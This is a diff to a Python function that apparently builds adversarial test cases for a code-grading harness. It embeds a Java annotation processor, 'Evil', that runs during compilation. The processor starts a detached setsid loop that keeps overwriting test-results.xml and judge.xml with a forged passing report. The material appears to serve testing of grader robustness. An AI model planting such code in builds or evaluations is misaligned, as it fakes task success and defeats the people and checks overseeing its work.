@@ -169,21 +169,21 @@ def java_annotation_processor(task: Task) -> list[str]:
     # A real annotation processor, registered through META-INF/services in the project root and
     # in src/: javac without -proc:none runs it during the compile check. It forges reports and
     # starts a detached loop that keeps doing so.
-    source = textwrap.dedent(f"""
+    source = textwrap.dedent("""
         import javax.annotation.processing.*;
         import javax.lang.model.element.TypeElement;
         import java.util.Set;
         @SupportedAnnotationTypes("*")
-        public class Evil extends AbstractProcessor {{
-            static {{
-                try {{
+        public class Evil extends AbstractProcessor {
+            static {
+                try {
                     new ProcessBuilder("setsid", "bash", "-c",
                         "while true; do for d in . build /tmp; do cp /tmp/pass.xml $d/test-results.xml; "
                         + "cp /tmp/pass.xml $d/judge.xml; done 2>/dev/null; sleep 0.05; done").start();
-                }} catch (Exception e) {{ }}
-            }}
-            public boolean process(Set<? extends TypeElement> a, RoundEnvironment r) {{ return false; }}
-        }}
+                } catch (Exception e) { }
+            }
+            public boolean process(Set<? extends TypeElement> a, RoundEnvironment r) { return false; }
+        }
         """)
     return [write_everywhere(),
             f"mkdir -p /tmp/evil && cat > /tmp/evil/Evil.java <<'EOF'\n{source}\nEOF",
